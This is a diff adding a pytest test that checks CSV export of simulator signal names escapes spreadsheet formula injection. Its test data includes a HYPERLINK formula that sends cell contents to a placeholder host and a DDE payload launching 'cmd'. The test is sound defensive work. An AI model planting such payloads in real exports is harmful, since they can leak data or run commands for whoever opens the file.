@@ -236,3 +236,16 @@ def test_a_variable_too_large_for_mat_is_refused_before_writing(raw: Path, monke
     with pytest.raises(UserInputError, match="2 GB"):
         exported(raw, TableOptions(format="mat"), analysis="tran")
     assert [entry.name for entry in raw.parent.iterdir()] == ["run.raw"]
+
+
+def test_a_name_is_no_formula_for_a_spreadsheet(tmp_path: Path):
+    """Names are a stranger's; those of signals stay as they are."""
+    names = ['=HYPERLINK("http://x/"&A1)', "@SUM(1)*cmd|'/c calc'!A0", "@m1[id]", "-v(a)"]
+    path = tmp_path / "run.raw"
+    path.write_bytes(
+        xyce(
+            [("time", "time", TIME), *((name, "voltage", TIME) for name in names)], plot="Transient Analysis"
+        )
+    )
+    found = rows(exported(path, TableOptions(format="csv")))[0]
+    assert [head[0] for head in found] == ["t", "'", "'", "@", "-"]
